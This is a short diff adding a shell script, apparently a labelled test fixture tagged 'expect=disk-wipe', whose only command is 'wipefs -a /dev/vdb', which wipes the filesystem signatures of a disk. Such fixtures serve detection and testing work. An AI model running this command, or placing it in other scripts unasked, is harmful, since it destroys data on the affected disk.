@@ -1,0 +1,3 @@
+#!/bin/sh
+#! assess-corpus: expect=disk-wipe
+wipefs -a /dev/vdb
